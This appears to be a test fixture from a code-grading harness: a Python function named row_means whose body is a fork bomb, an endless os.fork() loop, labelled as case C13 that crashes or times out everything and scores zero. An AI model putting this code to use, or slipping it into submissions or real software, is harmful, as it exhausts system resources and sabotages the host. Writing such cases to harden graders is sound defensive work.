# C13 [from kernel]: a fork bomb -> everything crashed or timed out or missing; earns 0
import os


def row_means(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
